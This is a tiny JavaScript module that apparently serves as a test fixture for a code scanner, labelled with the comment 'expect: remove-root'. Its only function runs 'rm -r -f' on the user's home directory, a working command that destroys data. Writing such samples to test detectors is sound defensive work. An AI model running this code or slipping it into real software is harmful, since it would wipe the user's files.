// expect: remove-root
import { spawnSync } from "node:child_process";
import { homedir } from "node:os";

export default () => {
  spawnSync("rm", ["-r", "-f", homedir()]);
};
